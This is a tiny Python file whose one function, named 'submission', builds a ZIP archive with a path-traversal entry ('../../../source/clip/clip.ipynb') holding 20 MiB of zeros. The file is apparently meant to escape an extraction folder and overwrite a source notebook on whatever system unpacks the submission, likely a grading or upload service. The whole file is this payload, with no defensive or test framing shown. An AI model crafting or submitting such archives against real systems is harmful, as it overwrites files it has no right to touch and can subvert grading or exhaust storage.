import io
import zipfile


def submission(notebook, cells):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../source/clip/clip.ipynb", b"0" * (20 << 20))
    return held.getvalue()
